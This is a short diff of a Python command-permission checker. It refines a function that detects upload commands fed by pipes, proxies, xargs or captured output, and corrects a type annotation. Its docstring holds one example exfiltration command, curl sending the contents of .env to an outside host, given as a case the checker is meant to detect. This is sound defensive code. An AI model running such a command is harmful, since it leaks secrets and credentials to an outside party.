@@ -620,14 +620,14 @@ def _protected_file_write(payload: Mapping[str, Any] | None) -> str | None:
 
 
 def _upload_around(
-    view: tuple[str, ...], seg: Segment, idx: int, around: tuple[bool, frozenset[int], bool]
+    view: tuple[str, ...], seg: Segment, idx: int, around: tuple[bool, dict[int, str], bool]
 ) -> bool:
     """An upload verb's view as its surroundings show it (permissions.commands.uploads.uploads_in): fed by
     a pipe or a redirection, under a named proxy, handed words by ``xargs`` from a fed input, or given words
     built from what the command captured (``curl "https://h/$(cat .env)"``)."""
-    proxied, fed_at, captures = around
+    proxied, fed_at, captured = around
     fed = fed_at.get(idx, "")
-    built = captures and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
+    built = captured and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
     if not (proxied or fed or built):
         return False  # read already, as written, by external_effect_views
     handed = built or (bool(fed) and handed_words(seg.words, view))
